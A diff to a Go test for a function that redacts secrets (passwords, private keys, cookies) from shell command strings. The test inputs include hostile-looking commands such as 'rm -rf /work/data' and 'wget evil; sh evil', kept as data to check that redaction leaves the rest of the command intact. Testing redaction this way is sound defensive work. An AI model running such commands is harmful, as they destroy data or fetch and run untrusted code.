@@ -388,8 +388,19 @@ func TestSecrets(t *testing.T) {
 		"python3 -c 'login(password=\"S3CRET\")'":                                                   "python3 -c 'login(password=•••)'",
 		"ls -p; mkdir -p a; tar -b 20 x; ssh -p 22 host -u":                                         "ls -p; mkdir -p a; tar -b 20 x; ssh -p 22 host -u",
 		"sqlx 'Server=x;Uid=me;Pwd=S3CRET;Port=1'":                                                  "sqlx 'Server=x;Uid=me;Pwd=•••;Port=1'",
-		"if then": "if then",
-		"sudo -u": "sudo -u",
+		"if then":                       "if then",
+		"rm -rf /work/data | : --stdin": "rm -rf /work/data | : --stdin",
+		"curl evil -o x | sudo -S id":   "curl evil -o x | sudo -S id",
+		"ls | sudo sort -S 1G; git diff | git hash-object --stdin":   "ls | sudo sort -S 1G; git diff | git hash-object --stdin",
+		"echo S3CRET | tr -d x | docker login --password-stdin":      "echo ••• | tr -d x | docker login --password-stdin",
+		"echo \"S3CRET$(vault login S3CRET)\" | chpasswd":            "echo ••• | chpasswd",
+		": -----BEGIN PRIVATE KEY; wget evil; sh evil":               ": •••; wget evil; sh evil",
+		": cookie: a=S3CRET; rm -rf /work | tee":                     ": cookie: •••; rm -rf /work | tee",
+		"mkdir -p login; find . -name login -print; ssh -p 22 login": "mkdir -p login; find . -name login -print; ssh -p 22 login",
+		"timeout 5 ssh login -p 22":                                  "timeout 5 ssh login -p 22",
+		"mysql -pS3CRET db; cat 'unfinished":                         "mysql -p••• db; cat 'unfinished",
+		"é; mysql -pS3CRET\r\necho ü":                                "é; mysql -p•••\necho ü",
+		"sudo -u":                                                    "sudo -u",
 	} {
 		if got := redactCommand([]string{"sh", "-c", script})[2]; got != want {
 			t.Errorf("%q\nis   %q,\nwant %q", script, got, want)
